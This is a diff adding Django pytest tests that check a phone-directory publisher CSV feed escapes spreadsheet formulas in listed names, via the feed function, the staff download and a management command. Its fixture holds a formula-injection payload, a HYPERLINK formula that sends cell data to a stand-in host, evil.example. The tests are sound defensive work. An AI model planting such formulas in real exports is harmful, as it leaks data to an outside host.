@@ -3,11 +3,14 @@
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 from collections.abc import Callable
+from pathlib import Path
 
 import pytest
 from django.core import mail
+from django.core.management import call_command
 from django.test import Client
 
 from azultel.accounts.testing import staff_create
@@ -284,3 +287,72 @@ def test_arbitrary_search_input_never_causes_a_server_error(client: Client) -> N
         assert response.status_code in (200, 400)
 
     search_anything()
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Lucia")'
+
+
+@pytest.fixture
+def formula_line(make_line: Callable[..., PhoneLine]) -> PhoneLine:
+    """A listed customer who typed a spreadsheet formula as the name to list."""
+    return make_line(
+        given="Lucia",
+        family="Garcia",
+        city="Miami",
+        zip_code="33131",
+        choice="listed",
+        listed_name=FORMULA_NAME,
+    )
+
+
+def _feed_rows(payload: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(payload.decode(), newline="")))
+
+
+@pytest.mark.promise("P14")
+@pytest.mark.django_db
+def test_a_listed_name_that_is_a_formula_is_published_as_text(formula_line: PhoneLine) -> None:
+    # When the publisher feed is made
+    result = directory_feed_publish(actor="system:test", recipient="Publisher", reference="ref")
+
+    # Then the name is written as text (a leading quote), the E.164 number as it is
+    rows = _feed_rows(result.payload)
+    assert [(r["name"], r["number"]) for r in rows] == [("'" + FORMULA_NAME, formula_line.number)]
+    assert b"\n=" not in result.payload and b",=" not in result.payload
+    # And the disclosure record's digest is that of the escaped bytes that were handed over
+    record = Disclosure.objects.get(basis="directory_publishing")
+    assert record.payload_digest == hashlib.sha256(result.payload).hexdigest()
+    assert PublisherFeed.objects.get().payload_digest == record.payload_digest
+    assert disclosure_log_verify() == []
+
+
+@pytest.mark.promise("P14")
+@pytest.mark.django_db
+def test_the_staff_feed_download_escapes_formulas(client: Client, formula_line: PhoneLine) -> None:
+    # Given a privacy officer
+    client.force_login(staff_create(role="privacy_officer"))
+
+    # When the feed is downloaded from the staff page
+    response = client.post(
+        "/staff/directory/feed/", {"recipient": "Publisher", "reference": "agreement 7"}
+    )
+
+    # Then the download holds the name as text, and its digest is the one recorded
+    assert response.status_code == 200
+    assert [r["name"] for r in _feed_rows(response.content)] == ["'" + FORMULA_NAME]
+    record = Disclosure.objects.get(basis="directory_publishing")
+    assert record.payload_digest == hashlib.sha256(response.content).hexdigest()
+
+
+@pytest.mark.promise("P14")
+@pytest.mark.django_db
+def test_the_feed_command_writes_formulas_as_text(formula_line: PhoneLine, tmp_path: Path) -> None:
+    # When the feed is written by the management command
+    out = tmp_path / "feed.csv"
+    call_command("directory_feed", "--out", str(out), "--reference", "ref", stdout=io.StringIO())
+
+    # Then the file holds the name as text, and its digest is the one recorded
+    written = out.read_bytes()
+    assert [r["name"] for r in _feed_rows(written)] == ["'" + FORMULA_NAME]
+    record = Disclosure.objects.get(basis="directory_publishing")
+    assert record.payload_digest == hashlib.sha256(written).hexdigest()
